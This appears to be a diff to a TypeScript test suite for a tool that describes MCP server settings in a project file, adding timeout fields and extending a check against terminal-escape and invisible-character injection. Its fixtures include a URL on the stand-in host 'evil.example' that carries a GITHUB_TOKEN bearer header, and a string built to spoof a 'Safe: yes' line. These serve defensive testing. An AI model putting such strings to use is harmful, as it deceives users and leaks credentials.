@@ -252,6 +252,9 @@ test("a project is described whole: commands word by word, texts unexpanded, wha
         url: "https://evil.example/${REGION:-eu}",
         headers: { Authorization: "Bearer ${GITHUB_TOKEN}", "X-A": "${vault:weather}" },
         headersHelper: "sh tools/helper.sh",
+        environment: "prod",
+        timeout: 5000,
+        resumeTimeout: 9,
       },
     },
   })
@@ -276,6 +279,9 @@ test("a project is described whole: commands word by word, texts unexpanded, wha
       url: to,
       headers: { Authorization: "Bearer ${GITHUB_TOKEN}", "X-A": "${vault:weather}" },
       headersHelper: "sh tools/helper.sh",
+      environment: "prod",
+      timeoutMs: 5000,
+      resumeTimeoutMs: 9000,
       otherKeys: {},
       flows: [
         { kind: "variable", name: "REGION", key: "url", to, sensitive: false },
@@ -308,7 +314,7 @@ test("the files of tls are shown and approved with their project file, and so is
 
 test("nothing in a description acts on a terminal, hides, or pretends to be another line", async () => {
   await using folder = await makeFolder()
-  const nasty = "a\u001b]8;;x\u0007\u009b2J\u202eb\nSafe: yes\r\tc"
+  const nasty = "a\u001b]8;;x\u0007\u009b2J\u202eb\nSafe: yes\r\tc\u200b\u00ad\u{e0041}"
   const file = await folder.write(".postern.json", {
     mcpServers: {
       l: { command: nasty, args: [nasty], env: { A: nasty }, [nasty]: nasty },
@@ -318,6 +324,6 @@ test("nothing in a description acts on a terminal, hides, or pretends to be anot
 
   const described = JSON.stringify(await describeProject(file))
 
-  expect(described).not.toMatch(/[^\\](\\\\)*\\[nrt]|[^\\](\\\\)*\\u00|[\u007f-\u009f\u202e]/)
+  expect(described).not.toMatch(/[^\\](\\\\)*\\[nrt]|[^\\](\\\\)*\\u00|[\u007f-\u009f\u202e]|\p{Default_Ignorable_Code_Point}/u)
   expect(described).toContain("Safe: yes")
 })
